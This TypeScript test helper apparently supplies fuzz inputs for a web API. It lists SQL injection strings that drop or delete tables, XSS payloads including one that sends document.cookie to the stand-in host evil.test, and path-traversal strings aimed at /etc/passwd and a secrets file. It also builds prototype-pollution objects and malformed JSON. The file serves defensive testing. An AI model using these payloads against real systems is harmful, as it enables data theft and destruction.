import type { Random } from './random.ts'

const MB = 1024 * 1024

/** Strings an attacker or a broken client sends: injection, traversal, unicode edge cases, format strings. */
export const HOSTILE_STRINGS: readonly string[] = [
  // SQL injection
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "1; SELECT pg_sleep(10)--",
  "1' UNION SELECT id, tier, is_admin FROM users--",
  "admin'--",
  "\\'; TRUNCATE notifications; --",
  "$$; DELETE FROM job_applications; $$",
  "1)) OR 1=1 --",
  // script / template injection
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<svg/onload=fetch(`//evil.test/${document.cookie}`)>',
  '{{constructor.constructor("return process")().exit()}}',
  '${process.exit(1)}',
  '#{7*7}',
  // path traversal
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/proc/self/environ',
  'resumes/../../.data/dev-secrets.json',
  // unicode: RTL override, zero-width, emoji with joiners, NUL, lone surrogate, combining marks, scripts
  '\u202Eexe.fdp\u202C',
  '\u200B\u200C\u200D\uFEFF\u2060',
  '👩🏽‍💻🔥💥👍🏽‍',
  'a\u0000b',
  '\u0000',
  '\uD800',
  'Z̸̢̛̛a̴̡͠l̵̨͝g̸̨͘o̷̢͘',
  'مرحبا بالعالم',
  'नमस्ते दुनिया',
  '\u0085\u2028\u2029',
  'ｆｕｌｌ－ｗｉｄｔｈ１２３',
  // format strings, CRLF injection, prototype keys, number-ish text
  '%s%s%s%n%x',
  'x\r\nSet-Cookie: session=stolen',
  '__proto__',
  'constructor',
  'NaN',
  '-1',
  '1e309',
  '0x7fffffffffffffff',
  '',
  ' ',
]

/** JSON values of every wrong type, including non-finite numbers and deep or polluting objects. */
export function hostileValue(r: Random): unknown {
  switch (r.int(12)) {
    case 0:
      return null
    case 1:
      return r.chance(0.5)
    case 2:
      return r.pick([-1, 0, 1.5, -0, 2 ** 53, -(2 ** 63), 1e308])
    case 3:
      return []
    case 4:
      return {}
    case 5:
      return r.some(HOSTILE_STRINGS, 1 + r.int(3))
    case 6:
      return JSON.parse('{"__proto__": {"is_admin": true, "polluted": true}}')
    case 7:
      return nested(r.int(50) + 5)
    case 8:
      return hugeString(r)
    default:
      return r.pick(HOSTILE_STRINGS)
  }
}

/** A hostile string, sometimes huge (64 KB or 1 MB). */
export function hostileString(r: Random): string {
  return r.chance(0.08) ? hugeString(r) : r.pick(HOSTILE_STRINGS)
}

export function hugeString(r: Random): string {
  const size = r.chance(0.3) ? MB : 64 * 1024
  return r.pick(['A', '💥', "'", '<', '\u200B']).repeat(size / 2)
}

function nested(depth: number): unknown {
  let value: unknown = 'bottom'
  for (let i = 0; i < depth; i++) value = { a: [value] }
  return value
}

/** Bodies that are not the JSON they claim to be: truncated, wrong encoding, deep, duplicated keys, empty. */
export function malformedJsonText(r: Random): string {
  return r.pick([
    '',
    '{',
    '{"roles": [',
    '{"status": "read"',
    "{'single': 'quotes'}",
    '{"a": undefined}',
    '{"a": NaN}',
    '{"a": 1e309}',
    '[1, 2, 3,]',
    '\uFEFF{"status": "read"}',
    '{"status": "read"}{"status": "unread"}',
    'null',
    'true',
    '"just a string"',
    '12345',
    'undefined',
    'status=read&roles=admin',
    '<xml><roles>admin</roles></xml>',
    '\u0000\u0001\u0002',
    '[' .repeat(100_000),
    `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
    `${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`,
    `{"x": "${'A'.repeat(MB)}"}`,
    '{"status": "read", "status": "unread", "__proto__": {"admin": true}}',
  ])
}
